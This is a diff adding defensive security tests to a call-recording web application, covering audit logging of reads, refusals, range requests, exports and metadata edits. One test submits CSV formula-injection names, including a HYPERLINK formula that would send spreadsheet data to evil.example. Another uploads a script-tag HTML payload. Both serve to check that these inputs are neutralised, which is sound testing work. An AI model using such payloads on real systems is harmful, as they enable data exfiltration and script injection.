@@ -48,7 +48,7 @@ def upload(s, role, path: Path, content: bytes | None = None, filename: str | No
 
 def audit_entries(s, **query) -> list[dict]:
     """The audit log as the admin reads it, newest first."""
-    return get(s, "admin", "/audit", params={"limit": 200, **query}).json()["items"]
+    return get(s, "admin", "/audit", params={"limit": 200, **query}).json()["entries"]
 
 
 # -- 1. files served: the type we probed, nosniff, a sandboxing CSP, names we chose (findings 1, 6's file name)
@@ -215,3 +215,215 @@ def test_tokens_expire_by_default_and_never_only_when_asked(site):
 
 
 # -- 6. re-uploads, the audit of every read and refusal, CSV cells, alert visibility (findings 5, 6, 7, 8)
+
+def _entries(s, actor: str, action: str) -> list:
+    """The audit log's entries of ``actor`` doing ``action``, newest first, as the store keeps them."""
+    return s.store.accounts.audit_log(200, actor=actor, action=action).entries
+
+
+def _user(s, role: str) -> tuple[str, dict[str, str]]:
+    """A user of ``role`` of this test's own (no audit entries yet), and its bearer header."""
+    import uuid
+
+    name = f"{role}-{uuid.uuid4().hex[:8]}"
+    s.store.accounts.add_user(name, role, PASSWORD)
+    token, _ = s.store.accounts.create_token(name, "security section 6")
+    return name, {"Authorization": f"Bearer {token}"}
+
+
+def _patch(s, role, recording_id: int, **changes) -> httpx.Response:
+    return httpx.patch(f"{s.url}/api/v1/recordings/{recording_id}", headers=auth(s, role), json=changes, timeout=60)
+
+
+def _report_csv(s, by: str) -> list[list[str]]:
+    import csv
+    import io
+    from datetime import date
+
+    today = date.today().isoformat()
+    got = get(s, "analyst", "/reports", params={"start": "2000-01-01", "end": today, "by": by, "format": "csv"})
+    assert got.status_code == 200, got.text
+    return list(csv.reader(io.StringIO(got.text)))
+
+
+def test_the_same_bytes_uploaded_again_leave_the_stored_call_as_it_was_and_say_so(site):
+    again = upload(site, "analyst", CALL, agent="mallory", queue="fraud", call_time="2001-01-01T00:00:00")
+    assert again.status_code == 200 and again.json()["recording"]["id"] == site.recording_id  # the analysis reused
+    detail = get(site, "viewer", f"/recordings/{site.recording_id}").json()
+    assert detail["recording"]["call_metadata"] == {"agent": "ann", "queue": "billing"}
+    assert [row[0] for row in _report_csv(site, "agent")[1:]] == ["ann"]  # the reports agree with the list
+    [entry] = [e for e in _entries(site, "analyst", "upload") if e.detail["job_id"] == again.json()["id"]]
+    assert entry.detail["reused_recording"] == site.recording_id and entry.detail["metadata_applied"] is False
+    assert entry.detail["metadata_not_applied"] == {"agent": "mallory", "queue": "fraud",
+                                                    "call_time": "2001-01-01T00:00:00"}
+
+
+def test_a_metadata_change_is_its_own_audited_action_and_no_page_shows_the_old_values(site):
+    path = f"/recordings/{site.recording_id}"
+    assert get(site, "viewer", path).json()["recording"]["call_metadata"]["queue"] == "billing"  # cached now
+    assert get(site, "viewer", path).headers["x-cache"] == "hit"
+    assert [row[0] for row in _report_csv(site, "queue")[1:]] == ["billing"]
+    denied = _patch(site, "viewer", site.recording_id, queue="retention")
+    assert denied.status_code == 403
+    assert _patch(site, "analyst", site.recording_id, colour="red").status_code == 422  # METADATA_FIELDS only
+    try:
+        changed = _patch(site, "analyst", site.recording_id, queue="retention", reference="T-1")
+        assert changed.status_code == 200, changed.text
+        assert changed.json()["call_metadata"] == {"agent": "ann", "queue": "retention", "reference": "T-1"}
+        assert get(site, "viewer", path).json()["recording"]["call_metadata"]["queue"] == "retention"
+        assert [row[0] for row in _report_csv(site, "queue")[1:]] == ["retention"]
+        listed = get(site, "viewer", "/recordings", params={"queue": "retention"}).json()["items"]
+        assert [r["id"] for r in listed] == [site.recording_id]
+        [entry] = _entries(site, "analyst", "recording_update")[:1]
+        assert entry.recording_id == site.recording_id and entry.door == "api"
+        assert (entry.detail["old"], entry.detail["new"]) == ({"queue": "billing", "reference": None},
+                                                              {"queue": "retention", "reference": "T-1"})
+    finally:
+        assert _patch(site, "analyst", site.recording_id, queue="billing", reference=None).status_code == 200
+    [refusal] = _entries(site, "viewer", "denied")[:1]
+    assert refusal.detail["path"] == f"/api/v1{path}" and refusal.detail["method"] == "PATCH"
+    assert refusal.detail["needed"] == "analyst"
+
+
+@pytest.mark.parametrize("header", ["bytes=0-", "bytes=00-", "bytes=0-0", "BYTES = 0-99", "bytes=5-9, 0-3",
+                                    "bytes=-99999999", "bytes=-{size}", "bytes=x-y", "items=5-"])
+def test_a_read_from_the_first_byte_is_a_download_audited_however_the_range_is_written(site, header):
+    name, headers = _user(site, "viewer")
+    size = CALL.stat().st_size
+    path = f"/recordings/{site.recording_id}/audio"
+    for n in (1, 2):  # every such read, not only the first of a listening
+        got = get(site, None, path, headers={**headers, "Range": header.format(size=size)})
+        assert got.status_code in (200, 206, 400, 416), got.text
+        assert len(_entries(site, name, "download")) == n, header
+
+
+def test_a_range_past_the_first_byte_is_audited_unless_the_listening_already_is(site):
+    name, headers = _user(site, "viewer")
+    path = f"/recordings/{site.recording_id}/audio"
+    seek = get(site, None, path, headers={**headers, "Range": "bytes=1-"})
+    assert seek.status_code == 206 and seek.content == CALL.read_bytes()[1:]  # all but one byte: never unaudited
+    [entry] = _entries(site, name, "download")
+    assert entry.recording_id == site.recording_id and entry.detail == {"from_start": False}
+    assert get(site, None, path, headers={**headers, "Range": "bytes=100-200"}).status_code == 206
+    assert len(_entries(site, name, "download")) == 1  # a seek in the listening audited a moment ago
+
+
+def test_refused_uploads_and_denied_requests_are_audited_with_why(site):
+    name, analyst = _user(site, "analyst")
+    not_audio = httpx.post(site.url + "/api/v1/recordings", headers=analyst, timeout=60,
+                           files={"file": ("poc.html", b"<script>alert(1)</script>" * 40, "text/html")})
+    assert not_audio.status_code == 415
+    not_multipart = httpx.post(site.url + "/api/v1/recordings", headers=analyst, json={"file": "x"}, timeout=60)
+    assert not_multipart.status_code == 422
+    multipart, unaudio = _entries(site, name, "upload_refused")
+    assert multipart.detail["status"] == 422 and "multipart" in multipart.detail["reason"]
+    assert unaudio.detail["filename"] == "poc.html" and unaudio.detail["kind"] == "not audio"
+    assert unaudio.detail["reason"] == not_audio.json()["detail"]
+    assert not _entries(site, name, "upload")
+
+    viewer, headers = _user(site, "viewer")
+    for method, path in (("POST", "/recordings"), ("GET", "/alerts"), ("GET", "/audit"), ("GET", "/search?q=x")):
+        assert httpx.request(method, site.url + "/api/v1" + path, headers=headers, timeout=60).status_code == 403
+    denied = _entries(site, viewer, "denied")
+    assert [(e.detail["method"], e.detail["path"], e.detail["needed"]) for e in reversed(denied)] == [
+        ("POST", "/api/v1/recordings", "analyst"), ("GET", "/api/v1/alerts", "supervisor"),
+        ("GET", "/api/v1/audit", "admin"), ("GET", "/api/v1/search", "analyst")]
+    assert all(e.source == "127.0.0.1" and e.door == "api" for e in denied)
+
+
+def test_lists_searches_reports_alerts_and_jobs_are_audited_as_reads(site):
+    name, headers = _user(site, "supervisor")
+
+    def read(path, **params):
+        got = get(site, None, path, headers=headers, params=params)
+        assert got.status_code == 200, got.text
+        return got
+
+    read("/recordings", agent="ann", sort="oldest")
+    [listed] = _entries(site, name, "list")
+    assert listed.detail["filters"] == {"agent": "ann"} and listed.detail["sort"] == "oldest"
+    assert site.recording_id in listed.detail["shown"]
+    read("/search", q="money back", queue="billing")
+    assert _entries(site, name, "search")[0].detail == {"query": "money back", "filters": {"queue": "billing"}}
+    read("/reports", start="2000-01-01", end="2100-01-01", by="agent")
+    read("/reports", start="2000-01-01", end="2100-01-01", by="agent", format="csv")
+    period = {"start": "2000-01-01", "end": "2100-01-01", "by": "agent"}
+    assert [e.detail for e in _entries(site, name, "report")] == [{"report": period}]
+    assert [e.detail for e in _entries(site, name, "export")] == [{"report": period}]
+    alert_id = read("/alerts", status="open").json()["items"][0]["id"]
+    assert _entries(site, name, "alert_list")[0].detail["status"] == "open"
+    read(f"/alerts/{alert_id}")
+    [seen] = _entries(site, name, "alert_view")
+    assert seen.detail == {"alert_id": alert_id} and seen.recording_id == site.recording_id
+    read("/jobs", status="done")
+    read(f"/jobs/{site.job['id']}")
+    assert _entries(site, name, "job_list")[0].detail == {"status": "done", "limit": 100}
+    assert _entries(site, name, "job_view")[0].recording_id == site.recording_id
+
+
+def test_an_export_is_audited_only_once_it_is_written(site):
+    """A call with a Chinese file name: its export is logged exactly when the server wrote it."""
+    name, headers = _user(site, "analyst")
+    sent = httpx.post(site.url + "/api/v1/recordings", headers=headers, timeout=120,
+                      files={"file": ("退款投诉.wav", (SAMPLES / "calls" / "lost_card.wav").read_bytes(), "audio/wav")})
+    recording_id = wait_done(site, sent.json()["id"])["recording"]["id"]
+    for format in ("csv", "json"):
+        got = get(site, None, f"/recordings/{recording_id}/export", headers=headers, params={"format": format})
+        written = got.status_code == 200
+        exported = [e for e in _entries(site, name, "export") if e.detail == {"format": format}]
+        assert len(exported) == (1 if written else 0), (format, got.status_code, got.text)
+    assert get(site, None, f"/recordings/{recording_id}/export", headers=headers,
+               params={"format": "csv"}).status_code != 500
+
+
+def test_every_csv_cell_a_spreadsheet_would_run_is_text_in_the_audit_log_and_reports(site):
+    import csv
+    import io
+
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+2", "\r=1+2"]  # anyone may try these
+    for name in names:
+        httpx.post(site.url + "/api/v1/auth/sign-in", json={"name": name, "password": "wrong"}, timeout=60)
+    audit_csv = get(site, "admin", "/audit", params={"format": "csv", "limit": 1000})
+    rows = list(csv.reader(io.StringIO(audit_csv.text)))
+    assert {"'" + name for name in names} <= {row[2] for row in rows[1:]}
+    try:
+        for agent in ("=1+2", "-1+2", "@SUM(A1)", "+A1"):  # metadata is stripped: no leading tab or CR survives
+            assert _patch(site, "analyst", site.recording_id, agent=agent).status_code == 200
+            groups = {row[0]: row[1:] for row in _report_csv(site, "agent")[1:]}
+            calls, *figures = groups["'" + agent]
+            assert calls == "1" and all(not f.startswith("'") for f in figures)  # numbers stay numbers
+    finally:
+        assert _patch(site, "analyst", site.recording_id, agent="ann").status_code == 200
+    for row in rows:
+        assert all(cell[:1] not in "=+-@\t\r" or cell == "" for cell in row), row
+
+
+def test_a_viewer_reads_no_supervisor_notes_on_a_call_whatever_was_cached(site):
+    path = f"/recordings/{site.recording_id}"
+    alert_id = next(a["id"] for a in get(site, "supervisor", path).json()["alerts"] if a["status"] == "open")
+    acked = httpx.post(f"{site.url}/api/v1/alerts/{alert_id}/acknowledge", headers=auth(site, "supervisor"),
+                       json={"comment": "customer is a journalist: handle with care"}, timeout=60)
+    assert acked.status_code == 200
+
+    def history(role):
+        [alert] = [a for a in get(site, role, path).json()["alerts"] if a["id"] == alert_id]
+        return alert["history"]
+
+    assert any(h["comment"] == "customer is a journalist: handle with care" for h in history("supervisor"))
+    for role in ("viewer", "analyst"):  # after the supervisor's page was cached
+        notes = history(role)
+        assert [h["action"] for h in notes] == [h["action"] for h in history("supervisor")]
+        assert all(h["comment"] is None and h["actor"] is None for h in notes), notes
+    assert get(site, "viewer", f"/alerts/{alert_id}").status_code == 403
+
+
+def test_a_range_header_covers_the_first_byte_exactly_when_it_should():
+    from voxsight.webui.ranges import from_start
+
+    for header in (None, "", "bytes=0-", "bytes=00-", "bytes=000-5", "bytes = 0 - 5", "Bytes=0-", "bytes=9-,0-1",
+                   "bytes=-100", "bytes=-101", "bytes=+1-", "bytes=١-", "bytes=a-", "bytes=-", "bytes=",
+                   "octets=5-", "bytes=" + ",".join(["5-6"] * 101)):
+        assert from_start(header, None, 100), header
+    for header in ("bytes=1-", "bytes=01-", "bytes=50-99", "bytes=-99", "bytes=5-6, 7-", "bytes= 1 -"):
+        assert not from_start(header, None, 100), header
+    assert from_start("bytes=1-", '"an old etag"', 100)  # If-Range: the whole file unless it still matches
